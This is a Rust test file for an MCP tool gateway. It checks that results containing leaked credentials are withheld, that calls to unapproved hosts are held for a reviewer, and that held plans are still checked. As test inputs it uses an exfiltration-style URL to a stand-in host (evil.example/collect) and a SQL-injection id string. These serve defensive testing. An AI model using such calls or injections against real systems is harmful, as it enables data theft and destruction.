//! Issue 16 item 2: the behavioural envelope end to end — a real `interlock
//! serve` in front of a real MCP server written for the test on the official
//! TypeScript SDK (`tests/peers/envelope-server.mjs`), whose tool definitions
//! never change while its behaviour does, called by the real SDK clients.

use serde_json::{Value, json};

use crate::gateway_util::{Gateway, peers_dir};

/// How many calls the tests' gateways learn from before fixing an envelope.
const LEARN: usize = 3;

struct Peer {
    gw: Gateway,
    behaviour: std::path::PathBuf,
    calls: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

fn start(mode: &str) -> Peer {
    let dir = tempfile::tempdir().unwrap();
    let behaviour = dir.path().join("behaviour");
    let calls = dir.path().join("calls.jsonl");
    let script = peers_dir().join("envelope-server.mjs");
    let gw = Gateway::start(&format!(
        "[calls]\nhold_secs = 1\n[envelope]\nmode = \"{mode}\"\nlearn_calls = {LEARN}\n\
         [roles.default]\ntools = [\"*\"]\n\
         [servers.env]\ncommand = \"node\"\nargs = [{:?}]\nenv = {{ BEHAVIOUR_FILE = {:?}, CALLS_FILE = {:?} }}\n",
        script.to_str().unwrap(),
        behaviour.to_str().unwrap(),
        calls.to_str().unwrap(),
    ));
    gw.wait_for_server("env", "PENDING");
    gw.approve_server("env");
    gw.wait_for_tool("env__lookup", true);
    Peer {
        gw,
        behaviour,
        calls,
        _dir: dir,
    }
}

fn call(gw: &Gateway, which: &str, tool: &str, args: Value) -> Value {
    gw.client(which, &["call", tool, &args.to_string()])
}

fn text(v: &Value) -> String {
    v["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// The `tool.call` leaves (index, entry) whose verdict has envelope findings.
fn envelope_leaves(gw: &Gateway, reviewer: &str) -> Vec<(u64, Value)> {
    let log = gw.api_get(reviewer, "/api/v1/log?from=0&limit=1000");
    log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| {
            e["entry"]["type"] == "tool.call" && e["entry"]["verdict"]["envelope"].is_array()
        })
        .map(|e| (e["index"].as_u64().unwrap(), e["entry"].clone()))
        .collect()
}

/// Each record validates against the published schema, and the leaf is in
/// the log the log key signed (its inclusion proof against the checkpoint).
fn assert_verifiable(gw: &Gateway, reviewer: &str, index: u64, entry: &Value) {
    use base64::Engine as _;
    use interlock_merkle::{NoteVerifier, leaf_hash, open_checkpoint, verify_inclusion_bytes};
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            crate::util::manifest_dir().join("docs/schemas/envelope-finding.schema.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).expect("the published schema compiles");
    for record in entry["verdict"]["envelope"].as_array().unwrap() {
        let errors: Vec<String> = validator
            .iter_errors(record)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{record} does not validate: {errors:?}");
    }
    let cp = gw.api_get(reviewer, "/api/v1/log/checkpoint");
    let verifier = NoteVerifier::from_vkey(cp["verifier_key"].as_str().unwrap()).unwrap();
    let p = gw.api_get(reviewer, &format!("/api/v1/log/{index}/proof"));
    let signed = open_checkpoint(p["note"].as_str().unwrap(), std::slice::from_ref(&verifier))
        .expect("the note is signed by the log key");
    let leaf = base64::engine::general_purpose::STANDARD
        .decode(p["leaf"].as_str().unwrap())
        .unwrap();
    let proof: Vec<Vec<u8>> = p["proof"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| hex::decode(h.as_str().unwrap()).unwrap())
        .collect();
    verify_inclusion_bytes(index, signed.size, &leaf_hash(&leaf), &proof, &signed.root)
        .unwrap_or_else(|e| panic!("entry {index}: {e}"));
    let statement: Value = serde_json::from_slice(&leaf).unwrap();
    assert_eq!(
        statement["predicate"]["verdict"]["envelope"], entry["verdict"]["envelope"],
        "{statement}"
    );
}

/// A tool whose definition never changed starts returning secrets after its
/// envelope was learned: the result is withheld with the reason, the secret
/// never reaches the agent, and the finding is a verifiable leaf. The
/// envelope survives a restart; `structuredContent` outside the approved
/// `outputSchema` is withheld the same way.
#[test]
fn regression_tool_that_starts_returning_secrets_is_withheld() {
    let mut p = start("hold");
    for i in 0..LEARN {
        let r = call(&p.gw, "mjs", "env__lookup", json!({"id": format!("r{i}")}));
        assert_eq!(text(&r), format!("record r{i}: active"), "{r}");
        let r = call(
            &p.gw,
            "py",
            "env__fetch",
            json!({"url": format!("https://api.example.com/items/{i}")}),
        );
        assert_eq!(r["result"]["structuredContent"]["status"], 200, "{r}");
    }
    let reviewer = p.gw.reviewer_key();
    let log = p.gw.api_get(&reviewer, "/api/v1/log?from=0&limit=1000");
    let fixed: Vec<&Value> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["entry"]["type"] == "tool.envelope_fixed")
        .collect();
    assert_eq!(fixed.len(), 2, "both tools' envelopes are fixed: {log}");

    // The envelope is kept across a restart.
    p.gw.restart();
    p.gw.wait_for_tool("env__lookup", true);
    let r = call(&p.gw, "mjs", "env__lookup", json!({"id": "r1"}));
    assert_eq!(text(&r), "record r1: active", "inside the envelope: {r}");

    std::fs::write(&p.behaviour, "leak").unwrap();
    let r = call(&p.gw, "mjs", "env__lookup", json!({"id": "r2"}));
    assert_eq!(r["result"]["isError"], true, "{r}");
    let answer = r.to_string();
    assert!(
        !answer.contains("AKIA") && !answer.contains("PRIVATE KEY"),
        "{answer}"
    );
    let said = text(&r);
    assert!(
        said.contains("this tool never returned private keys before"),
        "{said}"
    );
    assert!(said.contains("credentials of a known format"), "{said}");

    // A result outside the approved outputSchema is withheld too.
    std::fs::write(&p.behaviour, "bad-structure").unwrap();
    let r = call(
        &p.gw,
        "py",
        "env__fetch",
        json!({"url": "https://api.example.com/items/1"}),
    );
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(
        text(&r).contains("does not validate against the approved outputSchema"),
        "{r}"
    );

    let leaves = envelope_leaves(&p.gw, &reviewer);
    let leak = leaves
        .iter()
        .find(|(_, e)| e["tool"] == "lookup")
        .expect("the withheld lookup's leaf");
    assert_eq!(leak.1["verdict"]["response"], "blocked", "{}", leak.1);
    let kinds: Vec<&str> = leak.1["verdict"]["envelope"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            assert_eq!(f["action"], "withheld", "{f}");
            f["subject"].as_str().unwrap()
        })
        .collect();
    assert!(
        kinds.contains(&"private_key") && kinds.contains(&"secret_pattern"),
        "{kinds:?}"
    );
    assert!(
        !leak.1.to_string().contains("AKIA"),
        "the leaf never keeps the secret"
    );
    assert_verifiable(&p.gw, &reviewer, leak.0, &leak.1);
    let schema = leaves
        .iter()
        .find(|(_, e)| e["tool"] == "fetch")
        .expect("the withheld fetch's leaf");
    assert_eq!(
        schema.1["verdict"]["envelope"][0]["kind"], "output_schema_violation",
        "{}",
        schema.1
    );
    assert_verifiable(&p.gw, &reviewer, schema.0, &schema.1);
    p.gw.assert_audit_clean();
}

/// After learning, a call whose URL argument names a host the tool never
/// reached is held for a reviewer with the reason — it never reaches the
/// upstream — while calls inside the envelope keep running.
#[test]
fn regression_call_to_a_host_outside_the_envelope_is_held() {
    let p = start("hold");
    for i in 0..LEARN {
        let r = call(
            &p.gw,
            "py",
            "env__fetch",
            json!({"url": format!("https://api.example.com/items/{i}")}),
        );
        assert_eq!(r["result"]["structuredContent"]["status"], 200, "{r}");
    }
    let r = call(
        &p.gw,
        "mjs",
        "env__fetch",
        json!({"url": "https://api.example.com/items/9"}),
    );
    assert_eq!(
        text(&r),
        "fetched https://api.example.com/items/9",
        "inside: {r}"
    );

    let r = call(
        &p.gw,
        "mjs",
        "env__fetch",
        json!({"url": "https://evil.example/collect?d=1"}),
    );
    assert_eq!(r["result"]["structuredContent"]["held"], true, "{r}");
    let said = r.to_string();
    assert!(
        said.contains("first call to a host outside the approved set: evil.example"),
        "{said}"
    );
    let reached = std::fs::read_to_string(&p.calls).unwrap();
    assert!(
        !reached.contains("evil.example"),
        "the held call reached the upstream: {reached}"
    );

    let reviewer = p.gw.reviewer_key();
    let leaves = envelope_leaves(&p.gw, &reviewer);
    let (index, held) = leaves.last().expect("the held call's leaf");
    assert_eq!(held["verdict"]["verdict"], "held", "{held}");
    assert_eq!(
        held["verdict"]["envelope"][0]["kind"], "new_argument_host",
        "{held}"
    );
    assert_eq!(
        held["verdict"]["envelope"][0]["subject"], "evil.example",
        "{held}"
    );
    assert_eq!(held["verdict"]["envelope"][0]["action"], "held", "{held}");
    assert_verifiable(&p.gw, &reviewer, *index, held);

    // The envelope is shown with the surface; a reviewer widens it by the
    // held call's findings with a signed decision on the widened hash.
    let view = p.gw.api_get(&reviewer, "/api/v1/servers/env");
    let fetch = view["envelopes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["tool"] == "fetch")
        .unwrap_or_else(|| panic!("no envelope shown: {view}"));
    assert_eq!(fetch["state"], "fixed", "{fetch}");
    assert_eq!(
        fetch["envelope"]["arg_hosts"],
        json!(["api.example.com"]),
        "{fetch}"
    );
    let preview = p.gw.api_get(
        &reviewer,
        &format!("/api/v1/servers/env/envelopes/fetch/widening?leaf={index}"),
    );
    assert_eq!(preview["current_hash"], fetch["hash"], "{preview}");
    let widened = preview["widened_hash"].as_str().unwrap();
    // A hash other than the one shown signs nothing.
    let out = p.gw.cli(&[
        "servers",
        "widen",
        "env",
        "fetch",
        "--leaf",
        &index.to_string(),
        "--reason",
        "x",
        "--hash",
        fetch["hash"].as_str().unwrap(),
    ]);
    assert!(!out.status.success(), "{}", crate::util::stdout(&out));
    let out = p.gw.cli(&[
        "servers",
        "widen",
        "env",
        "fetch",
        "--leaf",
        &index.to_string(),
        "--reason",
        "evil.example is our new mirror",
        "--hash",
        widened,
    ]);
    assert!(
        out.status.success(),
        "widen: {}{}",
        crate::util::stdout(&out),
        crate::util::stderr(&out)
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let r = call(
            &p.gw,
            "py",
            "env__fetch",
            json!({"url": "https://evil.example/collect?d=1"}),
        );
        if text(&r) == "fetched https://evil.example/collect?d=1" {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never served after widening: {r}"
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
    let log = p.gw.api_get(&reviewer, "/api/v1/log?from=0&limit=1000");
    let widened_leaf = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["entry"]["type"] == "tool.envelope_widened")
        .unwrap_or_else(|| panic!("no widening leaf: {log}"));
    assert_eq!(
        widened_leaf["entry"]["envelope_hash"], widened,
        "{widened_leaf}"
    );
    assert_eq!(widened_leaf["entry"]["from_leaf"], *index, "{widened_leaf}");
    p.gw.assert_audit_clean();
}

/// Issue 39 item 12: a held call a reviewer approved ran as its plan, and
/// its result skipped the tool's behavioural envelope: a tool that started
/// returning keys after its envelope was fixed handed them (redacted, but
/// unwithheld and unrecorded) to the agent through the held path. The
/// approved result is checked as a forwarded one is now: withheld with the
/// envelope's reason, and the `approved_plan` leaf records the findings.
#[test]
fn regression_issue_39_a_held_calls_approved_result_goes_through_the_envelope() {
    let p = start("hold");
    for i in 0..LEARN {
        let r = call(&p.gw, "mjs", "env__lookup", json!({"id": format!("r{i}")}));
        assert_eq!(text(&r), format!("record r{i}: active"), "{r}");
    }
    std::fs::write(&p.behaviour, "leak").unwrap();
    // Inspection holds this call (an injection in the arguments).
    let id = json!({"id": "x'; DROP TABLE users; --"});
    let held = call(&p.gw, "py", "env__lookup", id.clone());
    let plan_id = held["result"]["structuredContent"]["plan_id"]
        .as_str()
        .unwrap_or_else(|| panic!("not held: {held}"))
        .to_owned();
    let out =
        p.gw.approve("plans", &plan_id, "a test id, not an injection");
    assert!(
        out.status.success(),
        "{}{}",
        crate::util::stdout(&out),
        crate::util::stderr(&out)
    );
    let ran = call(&p.gw, "py", "env__lookup", id);
    assert_eq!(ran["result"]["isError"], true, "{ran}");
    let answer = ran.to_string();
    assert!(
        !answer.contains("AKIA") && !answer.contains("PRIVATE KEY"),
        "{answer}"
    );
    let said = text(&ran);
    assert!(
        said.contains("this tool never returned private keys before"),
        "{said}"
    );
    let reached = std::fs::read_to_string(&p.calls).unwrap();
    assert!(reached.contains("DROP TABLE"), "the plan ran: {reached}");

    let reviewer = p.gw.reviewer_key();
    let leaves = envelope_leaves(&p.gw, &reviewer);
    let (index, leaf) = leaves
        .iter()
        .find(|(_, e)| e["verdict"]["verdict"] == "approved_plan")
        .unwrap_or_else(|| panic!("no approved_plan leaf with envelope findings: {leaves:?}"));
    assert_eq!(leaf["verdict"]["plan_id"], plan_id.as_str(), "{leaf}");
    assert_eq!(leaf["verdict"]["response"], "blocked", "{leaf}");
    assert!(
        leaf["verdict"]["envelope"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["subject"] == "private_key" && f["action"] == "withheld"),
        "{leaf}"
    );
    assert_verifiable(&p.gw, &reviewer, *index, leaf);
}

/// `mode = "monitor"` records the same finding and holds nothing.
#[test]
fn envelope_monitor_mode_records_but_does_not_hold() {
    let p = start("monitor");
    for i in 0..LEARN {
        call(
            &p.gw,
            "py",
            "env__fetch",
            json!({"url": format!("https://api.example.com/items/{i}")}),
        );
    }
    let r = call(
        &p.gw,
        "mjs",
        "env__fetch",
        json!({"url": "https://evil.example/x"}),
    );
    assert_eq!(text(&r), "fetched https://evil.example/x", "{r}");
    let reviewer = p.gw.reviewer_key();
    let leaves = envelope_leaves(&p.gw, &reviewer);
    let (_, leaf) = leaves.last().expect("the monitored call's leaf");
    assert_eq!(leaf["verdict"]["verdict"], "allowed", "{leaf}");
    assert_eq!(
        leaf["verdict"]["envelope"][0]["action"], "reported",
        "{leaf}"
    );
}
